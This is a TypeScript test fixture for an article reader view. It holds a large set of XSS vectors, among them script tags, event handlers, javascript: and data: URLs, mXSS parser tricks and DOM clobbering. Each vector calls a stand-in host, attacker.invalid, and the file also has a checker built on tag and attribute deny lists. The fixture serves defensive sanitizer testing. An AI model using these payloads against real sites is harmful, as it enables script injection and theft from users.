/**
 * Hostile article vectors: HTML that tries to run script, load from an attacker's host, escape the article or cover
 * the page once it is shown in the reader view or stored in the reading list. Our own set, written in the spirit of
 * DOMPurify's published test vectors (their fixtures are not on npm): javascript:/data: URLs, SVG/MathML script,
 * srcdoc frames, event handlers, <base>/<meta http-equiv> tricks, remote CSS, mXSS parser differentials,
 * template/noscript tricks, DOM clobbering.
 *
 * Every payload that would run script does two things if it ever runs: bumps `self.__pwned` in the frame it runs in
 * and requests `${ATTACKER}/exec/<id>` — so a real browser test counts executions (per frame) and attacker hits.
 * Every vector that would load a resource points at `${ATTACKER}/load/<id>`. Attacker URLs never sit in a plain
 * <img src> or <a href>: showing an article's images and links is the reader's job, not an attack.
 *
 * Pure data + a pure checker; used by tests/hostile/*.test.ts (jsdom) and e2e/hostile*.e2e.ts (Chromium).
 */

export interface Vector {
  id: string;
  html: string;
}

/** Placeholder for the attacker's origin; the e2e tests put a real 127.0.0.1 port in. */
export const ATTACKER = 'http://attacker.invalid';

/** The JS a payload runs, with no quotes and no spaces so it fits in any attribute or URL. */
const js = (id: string) => `self.__pwned=(self.__pwned|0)+1,new(Image)().src=\`${ATTACKER}/exec/${id}\``;
const load = (id: string) => `${ATTACKER}/load/${id}`;

type Maker = (j: string, l: string, id: string) => string;

const MAKERS: [string, Maker][] = [
  // ── <script> in all its forms ──
  ['script-inline', (j) => `<script>${j}</script>`],
  ['script-src', (_j, l) => `<script src="${l}"></script>`],
  ['script-type-module', (j) => `<script type="module">${j}</script>`],
  ['script-upper', (j) => `<SCRIPT>${j}</SCRIPT>`],
  ['script-split', (j) => `<scr<script>ipt>${j}</scr</script>ipt>`],
  ['script-in-p', (j) => `<p>text<script>${j}</script>more</p>`],
  ['script-xlink-svg', (j) => `<svg><script>${j}</script></svg>`],
  ['script-svg-href', (_j, l) => `<svg><script href="${l}"></script></svg>`],
  ['script-svg-xlink-href', (_j, l) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="${l}"></script></svg>`],
  ['script-math', (j) => `<math><script>${j}</script></math>`],
  ['script-noscript-comment', (j) => `<noscript><!-- </noscript><script>${j}</script> --></noscript>`],
  ['script-after-comment', (j) => `<!--><script>${j}</script>-->`],
  ['script-cdata', (j) => `<svg><![CDATA[><script>${j}</script>]]></svg>`],
  // ── event handlers ──
  ['img-onerror', (j) => `<img src="x" onerror="${j}">`],
  ['img-onerror-unquoted', (j) => `<img src=x onerror=${j}>`],
  ['img-onload-svgdata', (j) => `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E" onload="${j}">`],
  ['body-onload', (j) => `<body onload="${j}"><p>x</p></body>`],
  ['svg-onload', (j) => `<svg onload="${j}"></svg>`],
  ['svg-animate-onbegin', (j) => `<svg><animate onbegin="${j}" attributeName="x" dur="1s"/></svg>`],
  ['svg-set-onbegin', (j) => `<svg><set onbegin="${j}" attributeName="x" to="1"/></svg>`],
  ['details-ontoggle', (j) => `<details open ontoggle="${j}"><summary>s</summary>d</details>`],
  ['div-onmouseover', (j) => `<div onmouseover="${j}" onpointerenter="${j}">hover</div>`],
  ['a-onclick', (j) => `<a href="#x" onclick="${j}">click</a>`],
  ['input-autofocus-onfocus', (j) => `<input autofocus onfocus="${j}">`],
  ['div-tabindex-onfocus', (j) => `<div tabindex="1" autofocus onfocus="${j}">f</div>`],
  ['video-onerror', (j) => `<video src="x" onerror="${j}"></video>`],
  ['video-source-onerror', (j) => `<video><source src="x" onerror="${j}"></video>`],
  ['audio-onerror', (j) => `<audio src="x" onerror="${j}"></audio>`],
  ['marquee-onstart', (j) => `<marquee onstart="${j}">m</marquee>`],
  ['object-onerror', (j) => `<object data="x" onerror="${j}"></object>`],
  ['style-onload', (j) => `<style onload="${j}"></style>`],
  ['link-onload', (j, l) => `<link rel="stylesheet" href="${l}" onload="${j}" onerror="${j}">`],
  ['iframe-onload', (j) => `<iframe onload="${j}"></iframe>`],
  ['onerror-uppercase', (j) => `<IMG SRC=x ONERROR="${j}">`],
  ['onerror-slash', (j) => `<img/src=x/onerror=${j}>`],
  ['onerror-newline', (j) => `<img src=x\nonerror\n=\n"${j}">`],
  ['onerror-entity', (j) => `<img src=x onerror="&#x73;elf.__pwned=1;${j}">`],
  ['table-background-onerror', (j) => `<table background="x" onerror="${j}"><tr><td>t</td></tr></table>`],
  ['form-onsubmit', (j) => `<form onsubmit="${j}"><input type="submit"></form>`],
  ['body-onpageshow', (j) => `<body onpageshow="${j}">`],
  ['svg-a-onclick', (j) => `<svg><a onclick="${j}"><text y="20">t</text></a></svg>`],
  ['math-onclick', (j) => `<math><mi onclick="${j}">x</mi></math>`],
  ['picture-onerror', (j) => `<picture><source srcset="x"><img src="x" onerror="${j}"></picture>`],
  // ── javascript:, vbscript:, data: URLs ──
  ['a-js', (j) => `<a href="javascript:${j}">link</a>`],
  ['a-js-upper', (j) => `<a href="JaVaScRiPt:${j}">link</a>`],
  ['a-js-entity', (j) => `<a href="&#106;&#97;vascript:${j}">link</a>`],
  ['a-js-hex-entity', (j) => `<a href="&#x6A;avascript&#x3A;${j}">link</a>`],
  ['a-js-tab', (j) => `<a href="jav&#x09;ascript:${j}">link</a>`],
  ['a-js-newline', (j) => `<a href="jav\nascript:${j}">link</a>`],
  ['a-js-leading-space', (j) => `<a href="   javascript:${j}">link</a>`],
  ['a-js-ctrl', (j) => `<a href="\u0001javascript:${j}">link</a>`],
  ['a-js-ls', (j) => `<a href="\u2028javascript:${j}">link</a>`],
  ['a-js-nbsp', (j) => `<a href="&#xA0;javascript:${j}">link</a>`],
  ['a-vbscript', () => `<a href="vbscript:msgbox(1)">link</a>`],
  ['a-data-html', (j) => `<a href="data:text/html,<script>${j}</script>">link</a>`],
  ['a-data-html-b64', () => `<a href="data:text/html;base64,PHNjcmlwdD5zZWxmLl9fcHduZWQ9MTwvc2NyaXB0Pg==">link</a>`],
  ['area-js', (j) => `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${j}"></map><img src="y.png" usemap="#m">`],
  ['img-src-js', (j) => `<img src="javascript:${j}">`],
  ['img-src-data-html', (j) => `<img src="data:text/html,<script>${j}</script>">`],
  ['img-srcset-js', (j) => `<img src="ok.png" srcset="javascript:${j} 1x">`],
  ['img-lowsrc', (_j, l) => `<img lowsrc="${l}" dynsrc="${l}" src="ok.png">`],
  ['iframe-js', (j) => `<iframe src="javascript:${j}"></iframe>`],
  ['iframe-data', (j) => `<iframe src="data:text/html,<script>${j}</script>"></iframe>`],
  ['iframe-srcdoc', (j) => `<iframe srcdoc="<script>${j}</script>"></iframe>`],
  ['iframe-srcdoc-entity', (j) => `<iframe srcdoc="&lt;img src=x onerror=${j}&gt;"></iframe>`],
  ['iframe-remote', (_j, l) => `<iframe src="${l}"></iframe>`],
  ['frame-remote', (_j, l) => `<frameset><frame src="${l}"></frameset>`],
  ['object-data-html', (j) => `<object data="data:text/html,<script>${j}</script>"></object>`],
  ['object-remote', (_j, l) => `<object data="${l}" type="text/html"></object>`],
  ['embed-remote', (_j, l) => `<embed src="${l}">`],
  ['embed-js', (j) => `<embed src="javascript:${j}">`],
  ['applet', (_j, l) => `<applet code="x" codebase="${l}"></applet>`],
  ['form-action-js', (j) => `<form action="javascript:${j}"><button>go</button></form>`],
  ['button-formaction', (j) => `<form><button formaction="javascript:${j}">go</button></form>`],
  ['input-image', (_j, l) => `<input type="image" src="${l}">`],
  ['svg-a-xlink-js', (j) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${j}"><text y="20">x</text></a></svg>`],
  ['svg-a-href-js', (j) => `<svg><a href="javascript:${j}"><text y="20">x</text></a></svg>`],
  ['math-href-js', (j) => `<math href="javascript:${j}"><mi>x</mi></math>`],
  ['math-maction', (j) => `<math><maction actiontype="statusline" xlink:href="javascript:${j}">x</maction></math>`],
  ['svg-animate-href-js', (j) => `<svg><a><animate attributeName="href" values="javascript:${j}"/><text y="20">x</text></a></svg>`],
  ['svg-set-href-js', (j) => `<svg><a><set attributeName="href" to="javascript:${j}"/><text y="20">x</text></a></svg>`],
  ['svg-use-remote', (_j, l) => `<svg><use href="${l}#x"/></svg>`],
  ['svg-use-data', (j) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${j}'/></svg>#x"/></svg>`],
  ['svg-image-remote', (_j, l) => `<svg><image href="${l}"/></svg>`],
  ['svg-foreignobject', (j) => `<svg><foreignObject><iframe srcdoc="<script>${j}</script>"></iframe></foreignObject></svg>`],
  ['svg-handler-element', (j) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${j}</handler></svg>`],
  ['svg-feimage', (_j, l) => `<svg><filter><feImage href="${l}"/></filter></svg>`],
  ['video-poster-js', (j) => `<video poster="javascript:${j}"></video>`],
  ['blockquote-cite-js', (j) => `<blockquote cite="javascript:${j}">q</blockquote>`],
  ['a-ping', (_j, l) => `<a href="#p" ping="${l}">ping</a>`],
  ['isindex', (j) => `<isindex type="image" src="x" onerror="${j}">`],
  // ── <base>, <meta>, <link>, navigation ──
  ['base-href', (_j, l) => `<base href="${l}/"><img src="relative.png">`],
  ['base-target', () => `<base target="_top">`],
  ['meta-refresh', (_j, l) => `<meta http-equiv="refresh" content="0;url=${l}">`],
  ['meta-refresh-js', (j) => `<meta http-equiv="refresh" content="0;url=javascript:${j}">`],
  ['meta-csp', () => `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
  ['meta-set-cookie', () => `<meta http-equiv="Set-Cookie" content="pwned=1">`],
  ['link-stylesheet', (_j, l) => `<link rel="stylesheet" href="${l}">`],
  ['link-import', (_j, l) => `<link rel="import" href="${l}">`],
  ['link-prefetch', (_j, l) => `<link rel="prefetch" href="${l}"><link rel="preload" as="image" href="${l}">`],
  ['link-dns-prefetch', () => `<link rel="dns-prefetch" href="//attacker.invalid">`],
  ['a-download-target', (_j, l) => `<a href="${l}" target="_blank" download>get</a>`],
  // ── CSS: remote loads and covering the page ──
  ['style-import', (_j, l) => `<style>@import url("${l}");</style>`],
  ['style-bg', (_j, l) => `<style>body{background:url(${l})}</style>`],
  ['style-font-face', (_j, l) => `<style>@font-face{font-family:x;src:url(${l})}p{font-family:x}</style>`],
  ['style-cover', () => `<style>*{display:none!important}</style>`],
  ['style-attr-bg', (_j, l) => `<div style="background-image:url(${l})">bg</div>`],
  ['style-attr-cover', () => `<div style="position:fixed;inset:0;z-index:2147483647;background:red">COVER</div>`],
  ['style-attr-expression', (j) => `<div style="width:expression(${j})">x</div>`],
  ['style-attr-behavior', (_j, l) => `<div style="behavior:url(${l})">x</div>`],
  ['style-attr-moz-binding', (_j, l) => `<div style="-moz-binding:url(${l})">x</div>`],
  ['svg-style', (_j, l) => `<svg><style>@import url(${l});</style></svg>`],
  ['svg-style-cover', () => `<svg><style>svg{position:fixed;top:0;left:0;width:100vw;height:100vh}</style><rect width="100%" height="100%"/></svg>`],
  ['svg-fill-url', (_j, l) => `<svg><rect width="10" height="10" fill="url(${l}#g)"/></svg>`],
  ['class-hijack', () => `<div class="taza-toolbar taza-main" id="taza-main">fake chrome</div>`],
  ['background-attr', (_j, l) => `<table background="${l}"><tr><td background="${l}">t</td></tr></table>`],
  ['body-background', (_j, l) => `<body background="${l}"><p>b</p></body>`],
  // ── mXSS and parser differentials ──
  ['mxss-noscript-attr', (j) => `<noscript><p title="</noscript><img src=x onerror=${j}>"></noscript>`],
  ['mxss-noembed', (j) => `<noembed><img title="</noembed><img src=x onerror=${j}>"></noembed>`],
  ['mxss-noframes', (j) => `<noframes><img title="</noframes><img src=x onerror=${j}>"></noframes>`],
  ['mxss-xmp', (j) => `<xmp><img title="</xmp><img src=x onerror=${j}>"></xmp>`],
  ['mxss-listing', (j) => `<listing>&lt;img onerror=${j} src=x&gt;</listing>`],
  ['mxss-textarea', (j) => `<textarea><img title="</textarea><img src=x onerror=${j}>"></textarea>`],
  ['mxss-title', (j) => `<title><img title="</title><img src=x onerror=${j}>"></title>`],
  ['mxss-style-in-svg', (j) => `<svg></p><style><a id="</style><img src=1 onerror=${j}>">`],
  ['mxss-math-mtext', (j) => `<math><mtext><table><mglyph><style><img src=x onerror=${j}>`],
  ['mxss-math-mi-style', (j) => `<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${j}&gt;"></style></mglyph></mi></math>`],
  ['mxss-form-nesting', (j) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${j}>`],
  ['mxss-svg-p', (j) => `<svg><p><style><img src=x onerror=${j}></style></p></svg>`],
  ['mxss-select-style', (j) => `<select><style></select><img src=x onerror=${j}></style></select>`],
  ['mxss-option-iframe', (j) => `<option><iframe></select><b><script>${j}</script>`],
  ['mxss-comment-in-attr', (j) => `<a title="<!--"><img src=x onerror=${j}>--></a>`],
  ['mxss-id-slash', (j) => `<img src=x id/=' onerror=${j}//'>`],
  ['mxss-backtick', (j) => `<img src=\`x\` onerror=\`${j}\`>`],
  ['mxss-svg-desc', (j) => `<svg><desc><img src=x onerror=${j}></desc></svg>`],
  ['mxss-svg-title', (j) => `<svg><title><img src=x onerror=${j}></title></svg>`],
  ['mxss-table-form', (j) => `<table><form><td><img src=x onerror=${j}></td></form></table>`],
  // ── template, noscript, hidden content ──
  ['template-img', (j) => `<template><img src=x onerror=${j}></template>`],
  ['template-nested', (j) => `<template><s><template><s><img src=x onerror=${j}></s></template></s></template>`],
  ['template-shadowroot', (j) => `<div><template shadowrootmode="open"><img src=x onerror=${j}></template></div>`],
  ['noscript-img', (j) => `<noscript><img src=x onerror=${j}></noscript>`],
  ['noscript-lazy-fallback', (j) => `<figure><img data-src="ok.png"><noscript><img src="ok.png" onerror="${j}"></noscript></figure>`],
  ['lazy-data-src-js', (j) => `<img data-src="javascript:${j}" class="lazy">`],
  ['lazy-data-srcset-js', (j) => `<img data-srcset="javascript:${j} 1x" class="lazyload">`],
  ['custom-element', (j) => `<taza-reader-overlay onclick="${j}">x</taza-reader-overlay>`],
  ['dialog-open', () => `<dialog open style="position:fixed;inset:0">fake dialog</dialog>`],
  ['portal', (_j, l) => `<portal src="${l}"></portal>`],
  ['popover', (j) => `<div popover="manual" onbeforetoggle="${j}">p</div>`],
  // ── DOM clobbering ──
  ['clobber-document', () => `<img name="cookie"><img name="getElementById"><form name="body"></form>`],
  ['clobber-id-location', () => `<a id="location" href="#evil">x</a><a id="defaultView">y</a>`],
  ['clobber-purify', () => `<form id="DOMPurify"><input name="sanitize"></form><img id="taza-main" name="documentElement">`],
  ['clobber-attributes', (j) => `<form onmouseover="${j}"><input name="attributes"><input name="attributes"></form>`],
  ['clobber-nodename', (j) => `<form onsubmit="${j}"><input onfocus="${j}" name="nodeName">123</form>`],
  // ── odd encodings of the same things ──
  ['utf7-bait', () => `+ADw-script+AD4-self.__pwned=1+ADw-/script+AD4-`],
  ['null-in-tag', (j) => `<scr\u0000ipt>${j}</scr\u0000ipt>`],
  ['attr-no-quote-gt', (j) => `<img src=x onerror=${j}//>`],
  ['double-encoded', () => `&lt;script&gt;self.__pwned=1&lt;/script&gt;`],
  ['json-in-script', (j) => `<script type="application/ld+json">{"a":"</script><script>${j}</script>"}</script>`],
  ['xml-pi', (j) => `<?xml-stylesheet href="javascript:${j}"?>`],
];

/** All vectors, with ids. */
export const VECTORS: Vector[] = MAKERS.map(([id, make]) => ({ id, html: make(js(id), load(id), id) }));

/** Put a real attacker origin into vector HTML. */
export function withAttacker(html: string, origin: string): string {
  return html.split(ATTACKER).join(origin);
}

const PROSE = [
  'Городской совет обсудил новый план развития общественного транспорта на ближайшие пять лет. Депутаты выслушали доклад управления и задали вопросы о сроках, стоимости и источниках финансирования проекта.',
  'По словам представителей акимата, в первую очередь обновят автобусный парк и выделенные полосы. Эксперты отмечают, что без изменения маршрутной сети эффект будет заметно меньше, чем обещают авторы программы.',
  'Жители районов, где уже проходили испытания, рассказали о своих впечатлениях. Многие отмечают, что интервалы движения стали короче, однако в часы пик автобусы по-прежнему переполнены и опаздывают.',
  'Окончательное решение совет примет после общественных слушаний, которые пройдут в следующем месяце. Все материалы проекта опубликованы на сайте акимата, замечания принимаются до конца квартала.',
];

/**
 * A news article page with `payloads` placed inside its body (each in a paragraph of its own, between prose),
 * so that the reader's extraction keeps them as part of the article.
 */
export function hostileArticlePage(payloads: string[], opts: { title?: string; head?: string; scripts?: string } = {}): string {
  const title = opts.title ?? 'Совет обсудил план развития транспорта';
  const blocks: string[] = [];
  payloads.forEach((p, i) => {
    blocks.push(`<p>${PROSE[i % PROSE.length]}</p>`);
    blocks.push(`<div class="hostile-vector">${p}</div>`);
  });
  for (const p of PROSE) blocks.push(`<p>${p}</p>`);
  return `<!doctype html>
<html lang="ru"><head><meta charset="utf-8"><title>${title}</title>${opts.head ?? ''}${opts.scripts ?? ''}</head>
<body>
<header><nav><a href="/">Главная</a> <a href="/news">Новости</a></nav></header>
<main><article>
<h1>${title}</h1>
<p class="byline">Айгерим Нурланова</p>
${blocks.join('\n')}
</article></main>
<footer><p>© Тестовые новости</p></footer>
</body></html>`;
}

/**
 * Everything that makes rendered article HTML unsafe. Self-contained (no imports, no closures) so that the e2e tests
 * can hand it to `frame.evaluate` and run it on the live reader DOM as well. Returns one line per problem.
 */
export function inertProblems(root: Element, attackerHost: string): string[] {
  const problems: string[] = [];
  const BAD_TAGS = new Set([
    'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'style', 'link', 'base', 'meta', 'form',
    'input', 'button', 'textarea', 'select', 'portal', 'handler', 'foreignobject', 'isindex', 'noscript', 'template',
    'noembed', 'noframes', 'xmp', 'dialog', 'set', 'animate', 'animatemotion', 'animatetransform', 'use', 'feimage',
    'taza-reader-overlay',
  ]);
  const URL_ATTRS = new Set([
    'href', 'src', 'xlink:href', 'action', 'formaction', 'poster', 'background', 'data', 'codebase', 'cite',
    'lowsrc', 'dynsrc', 'srcset', 'ping', 'values', 'to', 'from', 'by',
  ]);
  const clean = (v: string) => v.replace(/[\u0000-\u0020\u007f-\u00a0\u1680\u180e\u2000-\u2029\u205f\u3000\ufeff]/g, '').toLowerCase();
  const all = [root, ...Array.from(root.querySelectorAll('*'))];
  for (const el of all) {
    const tag = el.localName.toLowerCase();
    if (el !== root && BAD_TAGS.has(tag)) problems.push(`<${tag}> element`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      const v = clean(value);
      if (name.startsWith('on')) problems.push(`<${tag} ${name}> event handler`);
      // SVG presentation attributes (fill, stroke, filter, mask, clip-path, marker-*, cursor) fetch url(...) references.
      if (/url\s*\(\s*['"]?\s*(?!#)/i.test(value)) problems.push(`<${tag} ${name}> url() reference`);
      if (name === 'style' || name === 'srcdoc' || name === 'http-equiv' || name === 'autofocus' || name === 'popover') problems.push(`<${tag} ${name}>`);
      if (name === 'id' && /^taza-/.test(value)) problems.push(`<${tag} id=${value}> clobbers the reader's ids`);
      if (URL_ATTRS.has(name)) {
        if (/(^|,)(javascript|vbscript|livescript):/.test(v)) problems.push(`<${tag} ${name}> script URL`);
        if (/(^|,)data:/.test(v)) {
          const imageData = (tag === 'img' || tag === 'source') && (name === 'src' || name === 'srcset') && /^data:image\/(png|jpe?g|gif|webp|avif|bmp|svg\+xml)[;,]/.test(v);
          if (!imageData) problems.push(`<${tag} ${name}> data: URL (${v.slice(0, 40)})`);
        }
        const isLink = (tag === 'a' && name === 'href') || ((tag === 'blockquote' || tag === 'q' || tag === 'del' || tag === 'ins') && name === 'cite');
        const candidates = name === 'srcset' ? value.split(/,\s+/).map((c) => c.trim().split(/\s+/)[0] ?? '') : [value];
        const toAttacker = candidates.some((c) => {
          try {
            return new URL(c.trim(), 'http://article.invalid/').host === attackerHost;
          } catch {
            return false;
          }
        });
        if (!isLink && toAttacker) problems.push(`<${tag} ${name}> loads from the attacker`);
      }
    }
  }
  return problems;
}
